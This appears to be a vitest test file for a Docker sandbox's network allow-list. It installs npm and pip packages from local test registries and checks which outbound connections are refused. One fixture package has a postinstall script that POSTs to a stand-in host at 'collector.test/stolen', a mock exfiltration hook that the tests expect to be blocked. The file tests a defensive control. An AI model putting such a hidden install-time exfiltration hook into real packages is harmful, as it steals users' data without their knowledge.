import { describe, expect, test } from "vitest";
import { HAS_ENGINE } from "../docker/support/backend.ts";
import { certify } from "./support/authority.ts";
import { startSandboxes } from "./support/docker-sandbox.ts";
import { imageWithout } from "./support/image-without.ts";
import { startNpmRegistry, startPythonRegistry } from "./support/registries.ts";

const NPM_HOST = "npm.registry.test";
const PYTHON_HOST = "python.registry.test";
const certified = await certify([NPM_HOST, PYTHON_HOST]);

const GREETER = {
  name: "greeter",
  manifest: { scripts: { postinstall: "node tell.js" } },
  files: {
    "index.js": "module.exports = () => 'hello from npm';\n",
    "tell.js":
      "fetch('https://collector.test/stolen', { method: 'POST' }).then(() => console.log('sent'), () => {});\n",
  },
};

/** A project that depends on the package, as its lock file has it. */
function npmProject(port: number, lock: { version: string; resolved: string; integrity: string }) {
  const root = { name: "project", version: "1.0.0", dependencies: { greeter: "^1.0.0" } };
  const packages = { "": root, "node_modules/greeter": { ...lock, hasInstallScript: true } };
  return {
    "package.json": JSON.stringify(root),
    "package-lock.json": JSON.stringify({ name: "project", lockfileVersion: 3, requires: true, packages }),
    ".npmrc": `registry=https://${NPM_HOST}:${port}/\ncafile=/workspace/ca.pem\nallow-scripts=greeter\n`,
    "ca.pem": certified.ca,
  };
}

const USE_GREETER = `node -p 'require("greeter")()'`;

describe.skipIf(!HAS_ENGINE)("dependencies", () => {
  test("npm ci installs from an allow-listed registry, and what an install script tries besides is reported", async () => {
    await using registry = await startNpmRegistry(certified, NPM_HOST, GREETER);
    await using sandboxes = await startSandboxes([`${NPM_HOST}:${registry.port}`]);
    const sandbox = await sandboxes.create();
    await sandbox.put(npmProject(registry.port, registry.lock));
    const { output, ...end } = await sandbox.run("npm ci --foreground-scripts", true);
    expect(output).toContain("added 1 package");
    expect(end).toEqual({ ending: "exited", exitCode: 0, signal: null, refused: ["collector.test:443"] });
    expect(registry.requests).toEqual(["/greeter/-/greeter-1.0.0.tgz"]);
    expect((await sandbox.run(USE_GREETER)).output).toBe("hello from npm\n");
  });

  test("npm install finds versions too", async () => {
    await using registry = await startNpmRegistry(certified, NPM_HOST, GREETER);
    await using sandboxes = await startSandboxes([`*.registry.test:${registry.port}`]);
    const sandbox = await sandboxes.create();
    const { "package-lock.json": _lock, ...files } = npmProject(registry.port, registry.lock);
    await sandbox.put(files);
    expect(await sandbox.run("npm install --ignore-scripts", true)).toMatchObject({
      exitCode: 0,
      refused: [],
    });
    expect((await sandbox.run(USE_GREETER)).output).toBe("hello from npm\n");
  });

  test("pip installs from an allow-listed index", async () => {
    await using registry = await startPythonRegistry(
      certified,
      "greeter",
      "def greet(): return 'hello from pip'\n",
    );
    await using sandboxes = await startSandboxes([`${PYTHON_HOST}:${registry.port}`]);
    const sandbox = await sandboxes.create();
    await sandbox.put({
      "ca.pem": certified.ca,
      "requirements.txt": `greeter==1.0 --hash=sha256:${registry.hash}\n`,
    });
    const index = `PIP_CERT=ca.pem PIP_INDEX_URL=https://${PYTHON_HOST}:${registry.port}/simple/`;
    const { output, ...end } = await sandbox.run(
      `python3 -m venv .venv && ${index} .venv/bin/pip install --no-cache-dir -r requirements.txt`,
      true,
    );
    expect(output).toContain("Successfully installed greeter-1.0");
    expect(end).toEqual({ ending: "exited", exitCode: 0, signal: null, refused: [] });
    expect(registry.requests).toEqual(["/simple/greeter/", "/files/greeter-1.0-py3-none-any.whl"]);
    const used = await sandbox.run(`.venv/bin/python -c 'import greeter; print(greeter.greet())'`);
    expect(used.output).toBe("hello from pip\n");
  });

  test("a registry that is not allow-listed is reported, and nothing is installed", async () => {
    await using registry = await startNpmRegistry(certified, NPM_HOST, GREETER);
    await using sandboxes = await startSandboxes(["another.registry.test"]);
    const sandbox = await sandboxes.create();
    await sandbox.put(npmProject(registry.port, registry.lock));
    const { exitCode, refused } = await sandbox.run("npm ci --fetch-retries=0", true);
    expect([exitCode, refused]).toEqual([1, [`${NPM_HOST}:${registry.port}`]]);
    expect(registry.requests).toEqual([]);
  });

  test.each([
    ["python3", ["/usr/bin/socat"]],
    ["node", ["/usr/bin/socat", "/usr/bin/python3"]],
  ])("an image without socat will do when it has %s", async (_tool, removed) => {
    await using image = await imageWithout(removed);
    await using registry = await startNpmRegistry(certified, NPM_HOST, GREETER);
    await using sandboxes = await startSandboxes([`${NPM_HOST}:${registry.port}`], { image: image.name });
    const sandbox = await sandboxes.create();
    await sandbox.put(npmProject(registry.port, registry.lock));
    expect(await sandbox.run("npm ci", true)).toMatchObject({ exitCode: 0, refused: ["collector.test:443"] });
    expect((await sandbox.run(USE_GREETER)).output).toBe("hello from npm\n");
  });

  test("an image that has none of them says so, and the command runs without the network", async () => {
    await using image = await imageWithout(["/usr/bin/socat", "/usr/bin/python3", "/usr/local/bin/node"]);
    await using sandboxes = await startSandboxes([], { image: image.name });
    const { output, exitCode } = await (await sandboxes.create()).run("echo on", true);
    // Two streams, whose order is nobody's promise.
    expect([new Set(output.trimEnd().split("\n")), exitCode]).toEqual([
      new Set([
        "on",
        "The network cannot be used: the sandbox's image has neither socat nor python3 nor node.",
      ]),
      0,
    ]);
  });
});
